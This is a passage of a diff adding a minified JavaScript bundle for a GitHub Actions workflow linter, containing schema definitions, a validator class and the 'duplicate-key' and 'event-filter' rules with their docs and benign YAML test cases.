+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost)`},"post-if":{type:"runs-if",description:`Allows you to define conditions for the post: action execution. The post: action will only run if the conditions in post-if are met. If not set, then post-if defaults to always().
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost-if)`}}}},"composite-runs-strict":{description:`Configuration for composite actions that run multiple steps.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)`,mapping:{properties:{using:{type:"using",required:!0,description:`The runtime used to execute the action. Must be composite for composite actions.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsusing)`},steps:{type:"composite-steps",required:!0}}}},"composite-steps":{description:`The steps that you plan to run in this action. These can be either run steps or uses steps.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runssteps)`,sequence:{"item-type":"composite-step"}},"composite-step":{description:"A step within a composite action.","one-of":["run-step","uses-step"]},"run-step":{description:`Runs a command-line program using the operating system's shell.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsrun)`,mapping:{properties:{name:{type:"string-steps-context",description:`A name for your step to display on GitHub.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsname)`},id:{type:"non-empty-string",description:`A unique identifier for the step. You can use the id to reference the step in contexts.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsid)`},if:{type:"step-if",description:`You can use the if conditional to prevent a step from running unless a condition is met. You can use any supported context and expression to create a conditional.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsif)`},run:{type:"string-steps-context",required:!0,description:`The command you want to run. This can be inline or a script in your action repository.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsrun)`},shell:{type:"string-steps-context",required:!0,description:`The shell where you want to run the command. Any shell supported by the runner can be used. Required if run is set.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsshell)`},env:"step-env","continue-on-error":{type:"boolean-steps-context",description:`Prevents the action from failing when a step fails. Set to true to allow the action to pass when this step fails.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepscontinue-on-error)`},"working-directory":{type:"string-steps-context",description:`Specifies the working directory where the command is run.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsworking-directory)`}}}},"uses-step":{description:`Runs another action as part of a step in your action.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsuses)`,mapping:{properties:{name:{type:"string-steps-context",description:`A name for your step to display on GitHub.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsname)`},id:{type:"non-empty-string",description:`A unique identifier for the step. You can use the id to reference the step in contexts.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsid)`},if:{type:"step-if",description:`You can use the if conditional to prevent a step from running unless a condition is met. You can use any supported context and expression to create a conditional.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsif)`},uses:{type:"non-empty-string",required:!0,description:`Selects an action to run as part of a step in your action. An action is a reusable unit of code.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsuses)`},with:"step-with",env:"step-env","continue-on-error":{type:"boolean-steps-context",description:`Prevents the action from failing when a step fails. Set to true to allow the action to pass when this step fails.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepscontinue-on-error)`}}}},"string-steps-context":{context:["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],string:{}},"boolean-steps-context":{context:["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],boolean:{}},"step-env":{description:`Sets variables for steps to use in the runner environment. You can also set variables for the entire action.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsenv)`,context:["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"step-if":{description:`You can use the if conditional to prevent a step from running unless a condition is met. You can use any supported context and expression to create a conditional.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsif)`,context:["github","inputs","strategy","matrix","steps","job","runner","env","always(0,0)","failure(0,0)","cancelled(0,0)","success(0,0)","hashFiles(1,255)"],string:{}},"step-with":{description:`A map of the input parameters defined by the action. Each input parameter is a key/value pair.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepswith)`,context:["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},branding:{description:`You can use a color and Feather icon to create a badge to personalize and distinguish your action in GitHub Marketplace.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#branding)`,mapping:{properties:{icon:{type:"branding-icon",description:`The name of the v4.28.0 Feather icon to use.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingicon)`},color:{type:"branding-color",description:`The background color of the badge.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingcolor)`}}}},"branding-icon":{description:`The name of the v4.28.0 Feather icon to use. Brand icons are omitted as well as: coffee, columns, divide-circle, divide-square, divide, frown, hexagon, key, meh, mouse-pointer, smile, tool, x-octagon.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingicon)`,"allowed-values":["activity","airplay","alert-circle","alert-octagon","alert-triangle","align-center","align-justify","align-left","align-right","anchor","aperture","archive","arrow-down-circle","arrow-down-left","arrow-down-right","arrow-down","arrow-left-circle","arrow-left","arrow-right-circle","arrow-right","arrow-up-circle","arrow-up-left","arrow-up-right","arrow-up","at-sign","award","bar-chart-2","bar-chart","battery-charging","battery","bell-off","bell","bluetooth","bold","book-open","book","bookmark","box","briefcase","calendar","camera-off","camera","cast","check-circle","check-square","check","chevron-down","chevron-left","chevron-right","chevron-up","chevrons-down","chevrons-left","chevrons-right","chevrons-up","circle","clipboard","clock","cloud-drizzle","cloud-lightning","cloud-off","cloud-rain","cloud-snow","cloud","code","command","compass","copy","corner-down-left","corner-down-right","corner-left-down","corner-left-up","corner-right-down","corner-right-up","corner-up-left","corner-up-right","cpu","credit-card","crop","crosshair","database","delete","disc","dollar-sign","download-cloud","download","droplet","edit-2","edit-3","edit","external-link","eye-off","eye","fast-forward","feather","file-minus","file-plus","file-text","file","film","filter","flag","folder-minus","folder-plus","folder","gift","git-branch","git-commit","git-merge","git-pull-request","globe","grid","hard-drive","hash","headphones","heart","help-circle","home","image","inbox","info","italic","layers","layout","life-buoy","link-2","link","list","loader","lock","log-in","log-out","mail","map-pin","map","maximize-2","maximize","menu","message-circle","message-square","mic-off","mic","minimize-2","minimize","minus-circle","minus-square","minus","monitor","moon","more-horizontal","more-vertical","move","music","navigation-2","navigation","octagon","package","paperclip","pause-circle","pause","percent","phone-call","phone-forwarded","phone-incoming","phone-missed","phone-off","phone-outgoing","phone","pie-chart","play-circle","play","plus-circle","plus-square","plus","pocket","power","printer","radio","refresh-ccw","refresh-cw","repeat","rewind","rotate-ccw","rotate-cw","rss","save","scissors","search","send","server","settings","share-2","share","shield-off","shield","shopping-bag","shopping-cart","shuffle","sidebar","skip-back","skip-forward","slash","sliders","smartphone","speaker","square","star","stop-circle","sun","sunrise","sunset","tablet","tag","target","terminal","thermometer","thumbs-down","thumbs-up","toggle-left","toggle-right","trash-2","trash","trending-down","trending-up","triangle","truck","tv","type","umbrella","underline","unlock","upload-cloud","upload","user-check","user-minus","user-plus","user-x","user","users","video-off","video","voicemail","volume-1","volume-2","volume-x","volume","watch","wifi-off","wifi","wind","x-circle","x-square","x","zap-off","zap","zoom-in","zoom-out"]},"branding-color":{description:`The background color of the badge.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingcolor)`,"allowed-values":["white","yellow","blue","green","orange","red","purple","gray-dark"]},using:{description:"The runtime used to execute the action.","allowed-values":["docker","node12","node16","node20","node24","composite"]},"non-empty-string":{string:{"require-non-empty":!0}}}};var h1={any:{},string:{string:{}},"non-empty-string":{string:{"require-non-empty":!0}},sequence:{sequence:{"item-type":"any"}},mapping:{mapping:{"loose-key-type":"string","loose-value-type":"any"}},null:{null:{}},boolean:{boolean:{}},number:{number:{}}},Ro=Kh,y1=Xh;function So(n,e){return n.definitions[e]??h1[e]??{}}function Qh(n){return typeof n=="string"?n:n.type}var Ju=Object.keys(So(Ro,"on-mapping-strict").mapping?.properties??{}),qj=(()=>{let n={},e=So(Ro,"permissions-mapping").mapping?.properties??{};for(let[t,s]of Object.entries(e))n[t]=Oo(Ro,Qh(s)).constants;return n})();function Oo(n,e,t=new Set){let s={constants:[],kinds:new Set};if(t.has(e))return s;t.add(e);let i=So(n,e);if(i["one-of"])for(let r of i["one-of"]){let o=Oo(n,r,t);s.constants.push(...o.constants);for(let a of o.kinds)s.kinds.add(a)}else i["allowed-values"]?s.constants.push(...i["allowed-values"]):i.string?.constant!==void 0?s.constants.push(i.string.constant):i.string?s.kinds.add(i.string["require-non-empty"]?"non-empty string":"string"):i.boolean?s.kinds.add("boolean"):i.number?s.kinds.add("number"):i.null?s.kinds.add("null"):!i.mapping&&!i.sequence&&s.kinds.add("any");return s}var $=n=>`"${n}"`,Nt=n=>n.map($).join(", "),b1=n=>typeof n=="string"&&n.includes("${{");function at(n){if((0,de.isAlias)(n))return"alias";if((0,de.isMap)(n))return"mapping";if((0,de.isSeq)(n))return"sequence";if(n==null)return"null";if((0,de.isScalar)(n)){let e=n.value;return e==null?"null":typeof e=="number"||typeof e=="bigint"?"number":typeof e=="boolean"?"boolean":"string"}return"other"}function Ws(n){let e=at(n);return e==="null"?"null (empty)":e==="mapping"?"a mapping":e==="sequence"?"a sequence":e==="string"?`the string ${$(String(n.value))}`:`the ${e} ${String(n.value)}`}function Pe(n){if(!(0,de.isScalar)(n))return;let e=n.value;return e==null?"":typeof e=="symbol"?"<<":String(e)}function w1(n){let e=n.key;return(0,de.isScalar)(e)&&(typeof e.value=="symbol"||e.value==="<<"&&e.type==="PLAIN")}var v1={"run-step":"step to run shell command","regular-step":"step to execute action","uses-step":"step to execute action","wait-step":"wait step","wait-all-step":"wait-all step","cancel-step":"cancel step","parallel-step":"parallel step"},Zh={branches:["merge_group","push","pull_request","pull_request_target","workflow_run"],"branches-ignore":["merge_group","push","pull_request","pull_request_target","workflow_run"],tags:["push"],"tags-ignore":["push"],paths:["push","pull_request","pull_request_target"],"paths-ignore":["push","pull_request","pull_request_target"],workflows:["workflow_run"]},Ku=class{constructor(e,t){this.model=e;this.schema=t}model;schema;diags=[];seenDiag=new Set;aliasStack=[];path=[];def(e){return So(this.schema,e)}report(e,t,s,i){let r=i?.range??this.model.rangeOf(t??this.model.doc.contents),o=`${e}:${r.start.line}:${r.start.character}:${s}`;this.seenDiag.has(o)||(this.seenDiag.add(o),this.diags.push({rule:e,message:s,range:r,severity:i?.severity,fixes:i?.fixes}))}deref(e){if(!(0,de.isAlias)(e))return e;let t=e.resolve(this.model.doc);if(t){if(this.aliasStack.includes(t)||this.path.includes(t)){this.report("yaml-anchor",e,`recursive alias "${e.source}": it refers to a node that contains it`);return}return t}}check(e,t,s){if((0,de.isAlias)(e)){let o=this.deref(e);if(o===void 0)return;this.aliasStack.push(o);try{this.check(o,t,s)}finally{this.aliasStack.pop()}return}let i=this.def(t),r=s.ctx||!!i.context?.length;if(!((0,de.isScalar)(e)&&b1(e.value))&&t!=="any"){if(i["one-of"])return this.checkOneOf(e,t,i,{...s,ctx:r});if(i.mapping)return this.checkMapping(e,t,i,{...s,ctx:r});if(i.sequence)return this.checkSequence(e,t,i,{...s,ctx:r});this.checkScalar(e,t,i,{...s,ctx:r})}}checkOneOf(e,t,s,i){let r=at(e),o=s["one-of"],a=c=>{let l=this.def(c);return l["one-of"]?"one-of":l.mapping?"mapping":l.sequence?"sequence":l.null?"null":"scalar"};if(r==="mapping"){let c=o.filter(l=>a(l)==="mapping"||a(l)==="one-of"&&this.accepts(l,"mapping"));if(c.length===1)return this.check(e,c[0],i);if(c.length>1)return this.check(e,this.pickMapping(e,c),i)}else if(r==="sequence"){let c=o.filter(l=>a(l)==="sequence"||a(l)==="one-of"&&this.accepts(l,"sequence"));if(c.length>=1)return this.check(e,c[0],i)}else if(r==="null"){if(o.some(l=>this.accepts(l,"null")))return;let c=o.filter(l=>a(l)==="scalar"||a(l)==="one-of"&&this.accepts(l,"scalar"));return c.length?this.check(e,c[0],i):this.emptySection(e,i,o.some(l=>this.accepts(l,"mapping"))?"mapping":"sequence")}else{let c=o.filter(l=>a(l)==="scalar"||a(l)==="one-of"&&this.accepts(l,"scalar"));if(c.length){if(this.scalarOk(e,t))return;for(let l of c)if(this.scalarOk(e,l))return;return c.length===1?this.check(e,c[0],i):this.badScalar(e,t,i)}}this.wrongKind(e,t,i)}accepts(e,t,s=new Set){if(s.has(e))return!1;s.add(e);let i=this.def(e);return e==="any"?!0:i["one-of"]?i["one-of"].some(r=>this.accepts(r,t,s)):t==="mapping"?!!i.mapping:t==="sequence"?!!i.sequence:t==="null"?!!i.null||!!i.string&&!i.string["require-non-empty"]&&i.string.constant===void 0:!!(i.string||i.boolean||i.number||i["allowed-values"])}pickMapping(e,t){let s=new Set(e.items.map(c=>Pe(c.key)??"")),i=c=>Object.entries(this.def(c).mapping?.properties??{}).filter(([,l])=>typeof l=="object"&&l.required).map(([l])=>l);if(t.includes("run-step")&&s.has("run")&&s.has("uses")){let c=e.items.map(l=>Pe(l.key));return c.lastIndexOf("run")>c.lastIndexOf("uses")?"run-step":"regular-step"}if(t.includes("regular-step")&&s.has("uses"))return"regular-step";if(t.includes("uses-step")&&s.has("uses"))return"uses-step";if(t.includes("workflow-job")&&s.has("uses"))return"workflow-job";for(let c of t){let l=i(c);if(l.length&&l.every(u=>s.has(u)))return c}let r=Pe(e.items.find(c=>Pe(c.key)==="using")?.value);if(r!==void 0){if(r==="docker"&&t.includes("container-runs-strict"))return"container-runs-strict";if(r==="composite"&&t.includes("composite-runs-strict"))return"composite-runs-strict";if(/^node/.test(r)&&t.includes("node-runs-strict"))return"node-runs-strict"}let o=t[0],a=-1;for(let c of t){let l=this.def(c).mapping?.properties??{},u=[...s].filter(p=>p in l).length;u>a&&(o=c,a=u)}return o}scalarOk(e,t,s=new Set){if(s.has(t))return!1;s.add(t);let i=this.def(t);if(t==="any")return!0;let r=at(e),o=Pe(e)??"";return t==="on-string-strict"?r==="string"&&Ju.includes(o):i["one-of"]?i["one-of"].some(a=>this.scalarOk(e,a,s)):i["allowed-values"]?r==="string"&&i["allowed-values"].includes(o):i.string?i.string.constant!==void 0?r==="string"&&o===i.string.constant:i.string["require-non-empty"]?r!=="null"&&o.trim()!=="":!0:i.boolean?r==="boolean":i.number?r==="number"||r==="string"&&o.trim()!==""&&!isNaN(Number(o)):i.null?r==="null":!1}emptySection(e,t,s){let i=e??t.key,r=t.keyName==="jobs"&&!t.parentDef?.includes("job")||t.label==="step"?"error":"warning";this.report("value-type",i,`${t.label} should not be empty (expected a ${s}); remove it if it is unnecessary`,{severity:r})}wrongKind(e,t,s){let i=[];if(this.accepts(t,"mapping")&&i.push("a mapping"),this.accepts(t,"sequence")&&i.push("a sequence"),this.accepts(t,"scalar")){let o=Oo(this.schema,t);o.constants.length&&!o.kinds.size?i.push(`one of ${Nt(o.constants)}`):i.push(...[...o.kinds].map(a=>a==="non-empty string"?"a string":a==="any"?"a value":`a ${a}`))}let r=e??s.key;if(at(e)==="null"&&!this.accepts(t,"scalar"))return this.emptySection(e,s,i[0]==="a sequence"?"sequence":"mapping");this.report("value-type",r,`${s.label} must be ${[...new Set(i)].join(" or ")||"something else"}, but it is ${Ws(e)}`)}badScalar(e,t,s){let i=Oo(this.schema,t),r=Pe(e)??"";if(t==="on-string-strict")return this.unknownEvent(e,r);if(s.parentDef==="permissions-mapping"||t==="permissions")return this.badPermission(e,r,s,i.constants);if(/-activity(-type)?$/.test(t))return this.badActivity(e,r,s,i.constants);if(at(e)==="null"||r.trim()===""&&i.kinds.has("non-empty string")&&i.constants.length===0)return this.report("value-type",e??s.key,`${s.label} should not be an empty string`);let o=[];i.constants.length&&o.push(`one of ${Nt(i.constants)}`);for(let c of i.kinds)o.push(c==="non-empty string"?"a non-empty string":`a ${c}`);this.accepts(t,"mapping")&&o.push("a mapping"),this.accepts(t,"sequence")&&o.push("a sequence");let a=i.constants.length?se(r,i.constants):void 0;this.report("value-type",e,`${s.label} must be ${o.join(" or ")}, but it is ${Ws(e)}`+(a?`. Did you mean ${$(a)}?`:""),{fixes:a?[this.replaceFix(e,a)]:void 0})}replaceFix(e,t){return{title:`Change to "${t}"`,preferred:!0,edits:[{range:this.model.rangeOf(e),newText:t}]}}unknownEvent(e,t){let i=Ju.find(r=>r.toLowerCase()===t.toLowerCase())??se(t,Ju);this.report("unknown-event",e,`unknown Webhook event ${$(t)}`+(i?`. Did you mean ${$(i)}?`:"; see https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows for the list of events"),{fixes:i?[this.replaceFix(e,i)]:void 0})}badPermission(e,t,s,i){if(s.parentDef==="permissions-mapping"){let r=i.find(o=>o===t.toLowerCase())??se(t,i);this.report("permissions",e,`${$(t)} is invalid as permission of scope ${$(s.keyName)}. available values are ${Nt(i)}`,{fixes:r?[this.replaceFix(e,r)]:void 0})}else{let r=["read-all","write-all"].find(o=>o===t.toLowerCase())??se(t,["read-all","write-all"]);this.report("permissions",e,`${$(t)} is invalid for permission for all the scopes. available values are "read-all", "write-all" or {}`,{fixes:r?[this.replaceFix(e,r)]:void 0})}}badActivity(e,t,s,i){let r=se(t,i);this.report("event-filter",e,`invalid activity type ${$(t)} for ${$(s.event??"?")} Webhook event. available types are ${Nt(i)}`,{fixes:r?[this.replaceFix(e,r)]:void 0})}checkScalar(e,t,s,i){let r=at(e);if(r==="mapping"||r==="sequence")return t==="on-string-strict"&&r==="mapping"?void 0:this.report("value-type",e,`${i.label} must be ${this.scalarWord(s)}, but it is ${Ws(e)}`);if(this.scalarOk(e,t)){this.checkRange(e,i);return}r==="null"&&!s.string?.["require-non-empty"]&&s.string?.constant===void 0&&!s["allowed-values"]&&!s.boolean&&!s.number&&!s.string||this.badScalar(e,t,i)}scalarWord(e){return e.boolean?"a boolean":e.number?"a number":e["allowed-values"]?`one of ${Nt(e["allowed-values"])}`:e.string?.constant!==void 0?$(e.string.constant):"a string"}checkRange(e,t){if((t.keyName==="timeout-minutes"||t.keyName==="max-parallel")&&at(e)!=="string"){let s=Number(e.value);!isNaN(s)&&s<=0?this.report("value-type",e,`value at ${$(t.keyName)} must be greater than zero: ${s}`):t.keyName==="max-parallel"&&!Number.isInteger(s)&&this.report("value-type",e,`value at "max-parallel" must be an integer: ${s}`)}}checkSequence(e,t,s,i){let r=at(e);if(r==="null")return this.emptySection(e,i,"sequence");if(r!=="sequence")return t==="on-sequence-strict"?void 0:this.report("value-type",e,`${i.label} must be a sequence, but it is ${Ws(e)}`);let o=e;this.path.push(o);try{this.checkItems(o,t,s,i)}finally{this.path.pop()}}checkItems(e,t,s,i){e.items.length===0&&i.keyName!=="args"&&this.report("value-type",e,`${i.label} should not be empty`,{severity:"warning"});let r=s.sequence["item-type"],o=i.keyName==="steps"?"step":`element of ${i.label}`;for(let a of e.items)this.check(a,r,{...i,key:void 0,label:o,parentDef:t})}checkMapping(e,t,s,i){let r=at(e);if(r!=="mapping")return r==="null"?this.emptySection(e,i,"mapping"):this.report("value-type",e,`${i.label} must be a mapping, but it is ${Ws(e)}`);let o=e;this.path.push(o);try{this.checkPairs(o,t,s,i)}finally{this.path.pop()}}checkPairs(e,t,s,i){let r=s.mapping.properties??{},o=s.mapping["loose-key-type"],a=s.mapping["loose-value-type"],c=t==="workflow-root-strict"?"workflow":t==="action-root-strict"?"action metadata":v1[t]??i.label,l=new Map,u=Object.keys(r);for(let p of e.items){if(!(0,de.isPair)(p))continue;if(w1(p)){this.report("yaml-anchor",p.key,'GitHub Actions does not support the YAML merge key "<<"; write the keys out (or use an anchor for the whole value)');continue}let d=p.key,f=Pe(d);if(f===void 0)continue;let m=f.toLowerCase(),g=l.get(m);if(g){let y=this.model.keyRange(g),w=Pe(g.key)!==f||!!o;this.report("duplicate-key",d,`key ${$(f)} is duplicated in ${c}. previously defined at line:${y.start.line+1},col:${y.start.character+1}`+(w?". note that this key is case insensitive":""))}else l.set(m,p);let h=p.value;if(f in r){let y=Qh(r[f]);this.check(h,y,this.childLoc(t,f,d,i,c));continue}if(o){o!=="string"&&o!=="any"&&this.check(d,o,{...i,keyName:f,label:`key of ${c}`,key:d??void 0}),a&&this.check(h,a,this.childLoc(t,f,d,i,c));continue}this.unknownKey(p,f,t,u,l,c,i)}for(let[p,d]of Object.entries(r))typeof d!="object"||!d.required||e.items.some(f=>Pe(f.key)===p)||e.items.some(f=>(Pe(f.key)??"").toLowerCase()===p)||this.missing(e,p,t,c,i);this.afterMapping(e,t,c,i)}childLoc(e,t,s,i,r){let o=`${$(t)} section`;e==="jobs"?o=`job ${$(t)}`:e==="workflow-call-inputs"?o=`input ${$(t)} of workflow_call event`:e==="workflow-dispatch-inputs"?o=`input ${$(t)} of workflow_dispatch event`:e==="workflow-call-outputs"?o=`output ${$(t)} of workflow_call event`:e==="workflow-call-secrets"?o=`secret ${$(t)} of workflow_call event`:e==="services"?o=`service ${$(t)}`:e==="permissions-mapping"?o=`permission ${$(t)}`:e==="on-mapping-strict"?o=`${$(t)} event`:e==="inputs-strict"?o=`input ${$(t)}`:e==="outputs"?o=`output ${$(t)}`:r.startsWith("step")&&t==="with"&&(o='"with" section');let a=e==="on-mapping-strict"?t:i.event;return{key:s??void 0,keyName:t,label:o,parentDef:e,event:a,ctx:i.ctx}}unknownKey(e,t,s,i,r,o,a){let c=e.key,l=this.model.keyRange(e);if(s==="on-mapping-strict")return this.unknownEvent(c,t);if(s==="permissions-mapping"){let g=i.find(h=>h===t.toLowerCase())??se(t,i);return this.report("permissions",c,`unknown permission scope ${$(t)}. all available permission scopes are ${Nt(i)}`+(g?`. Did you mean ${$(g)}?`:""),{fixes:g?[{title:`Change to "${g}"`,preferred:!0,edits:[{range:l,newText:g}]}]:void 0})}if(a.event&&Zh[t]&&s.endsWith("-mapping")&&!i.includes(t)){let g=Zh[t];return this.report("event-filter",c,`${$(t)} filter is not available for ${a.event} event. it is only for ${g.join(", ")} event${g.length>1?"s":""}`)}if(a.event&&t==="types"&&s.endsWith("-mapping")&&!i.includes(t))return this.report("event-filter",c,`${a.event} event does not have activity types; remove "types"`);let u=i.find(g=>g.toLowerCase()===t.toLowerCase()),p=i.filter(g=>!r.has(g.toLowerCase())||g.toLowerCase()===t.toLowerCase()),d=u??se(t,p),f="";s==="run-step"&&["with","uses"].includes(t)?f='; "with" and "uses" are for steps that run an action':s==="regular-step"&&["run","shell","working-directory"].includes(t)?f=`; ${$(t)} is only for steps that run a script with "run"`:s==="workflow-job"&&t in(this.def("job-factory").mapping?.properties??{})?f=`; when a reusable workflow is called with "uses", ${$(t)} is not available. only ${Nt(i)} are allowed`:s==="job-factory"&&t in(this.def("workflow-job").mapping?.properties??{})&&(f=`; ${$(t)} is only available for a reusable workflow call with "uses" but "uses" is not found in ${o}`);let m=u?`unexpected key ${$(t)} for ${o}. keys are case-sensitive: did you mean ${$(u)}?`:`unexpected key ${$(t)} for ${o}${f||`. expected one of ${Nt(i)}`}`+(d&&!f?`. Did you mean ${$(d)}?`:"");this.report("unknown-key",c,m,{fixes:d&&!f?[{title:`Change to "${d}"`,preferred:!0,edits:[{range:l,newText:d}]}]:void 0})}missing(e,t,s,i,r){let o=r.key??e.items[0]?.key??e;if(s==="workflow-root-strict")return this.report("missing-key",e.items[0]?.key??e,`${$(t)} section is missing in workflow`);if((s==="run-step"||s==="regular-step")&&(t==="run"||t==="uses"))return this.report("missing-key",e,'step must run a script with "run" or run an action with "uses"');this.report("missing-key",o,`${$(t)} is missing in ${i}`)}afterMapping(e,t,s,i){let r=o=>e.items.find(a=>Pe(a.key)===o);if(t==="container-registry-credentials"){let o=r("username"),a=r("password");!!o!=!!a&&this.report("missing-key",i.key??e,'both "username" and "password" must be specified in "credentials" section')}(t==="container-mapping"||t==="service-container-mapping")&&(r("image")||this.report("missing-key",i.key??e,`"image" is missing in ${s}`)),t==="job-factory"&&!r("steps")&&this.report("missing-key",i.key??e,`"steps" section is missing in ${s}`),(t==="workflow-defaults"||t==="job-defaults")&&e.items.length===0&&this.report("value-type",e,'"defaults" section should have a "run" section',{severity:"warning"}),e.items.length===0&&["regular-step","run-step","container-mapping","container-registry-credentials","step-with","workflow-defaults-run","job-defaults-run"].includes(t)&&(t.endsWith("step")||this.report("value-type",e,`${s} should not be empty; remove it if it is unnecessary`,{severity:"warning"}))}};function k1(n){return n.memoize("wfs:schema",()=>{if(n.errors.length)return[];let e=new Ku(n,n.kind==="action"?y1:Ro),t=n.doc.contents;if(t===null||(0,de.isScalar)(t)&&(t.value===null||t.value===""))return e.report("missing-key",null,n.kind==="action"?"action metadata is empty":"workflow is empty"),e.diags;let s=n.kind==="action"?"action-root-strict":"workflow-root-strict";return e.check(t,s,{keyName:"",label:n.kind==="action"?"action metadata":"workflow",ctx:!1}),e.diags})}function fe(n,e){for(let t of k1(n.model))t.rule===e&&n.report({message:t.message,range:t.range,severity:t.severity,fixes:t.fixes})}var x1={id:"duplicate-key",language:["workflow","action"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"A key is written twice in the same mapping. GitHub compares keys without regard to case, so `FOO` and `foo` in `env:`, two jobs `Build` and `build`, or two inputs differing in case are duplicates too.",why:"GitHub rejects the workflow; other YAML tools silently keep the last value, so the mistake is easy to miss when copying jobs or steps around.",bad:`on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make test
+  test:
+    runs-on: windows-latest
+    steps:
+      - run: make test
+`,good:`on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make test
+  test-windows:
+    runs-on: windows-latest
+    steps:
+      - run: make test
+`},check(n){fe(n,"duplicate-key")},tests:[{name:"duplicated key in a job",input:`on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    runs-on: macos-latest
+    steps:
+      - run: echo
+`,expect:[{line:5,col:5,message:'key "runs-on" is duplicated in job "test". previously defined at line:4,col:5'}]},{name:"case-insensitive env, inputs, matrix, with and job ids",input:`on:
+  workflow_dispatch:
+    inputs:
+      foo:
+        type: string
+      FOO:
+        type: string
+env:
+  A: 1
+  a: 2
+jobs:
+  b:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        x: [1]
+        X: [2]
+    steps:
+      - uses: actions/checkout@v4
+        with:
+          ref: a
+          REF: b
+  B:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:6,col:7,message:"note that this key is case insensitive"},{line:10,col:3,message:'key "a" is duplicated in "env" section'},{line:17,col:9,message:'key "X" is duplicated in "matrix" section'},{line:22,col:11,message:'key "REF" is duplicated in "with" section'},{line:23,col:3,message:'key "B" is duplicated in "jobs" section'}]},{name:"same names in different mappings",input:`on: push
+env:
+  A: 1
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    env:
+      A: 2
+    steps:
+      - run: echo
+        env:
+          A: 3
+`,expect:[]}]},ey=x1;var ty=U(ke());var R1=[["branches","branches-ignore"],["tags","tags-ignore"],["paths","paths-ignore"]],O1={id:"event-filter",language:"workflow",severity:"error",compat:{actionlint:"events"},docs:{summary:"Event filters GitHub rejects: an activity type the event does not have, a filter the event does not take (`paths` on `merge_group`, `tags` on `pull_request`), or a filter together with its `-ignore` twin.",why:"GitHub rejects the workflow, or the trigger never matches what you meant. To exclude some branches from a `branches` list, negate them with `!` in the same list.",bad:`on:
+  pull_request:
+    types: [open]
+    branches: [main]
+    branches-ignore: [wip/**]
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make test
+`,good:`on:
+  pull_request:
+    types: [opened]
+    branches: [main, '!wip/**']
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make test
+`},check(n){fe(n,"event-filter");let{model:e}=n;for(let t of ne(e).events){if(!(0,ty.isMap)(t.config))continue;let s=z(e,t.config);for(let[i,r]of R1){let o=s.get(i),a=s.get(r);if(!o||!a)continue;let c=o.key.range[0]>a.key.range[0]?o:a;n.report({message:`both ${JSON.stringify(i)} and ${JSON.stringify(r)} filters cannot be used for the same event ${JSON.stringify(t.name)}. note: use '!' to negate patterns`,range:e.keyRange(c)})}}},tests:[{name:"activity types",input:`on:
+  pull_request:
+    types: [opened, created]
+  merge_group:
+    types: opened
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:3,col:21,message:'invalid activity type "created" for "pull_request" Webhook event. available types are'},{line:5,col:12,message:'available types are "checks_requested"'}]},{name:"filters not available for the event",input:`on:
+  merge_group:
+    paths: [a]
+  pull_request:
+    tags: [v1]
+  pull_request_review:
+    branches: [main]
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
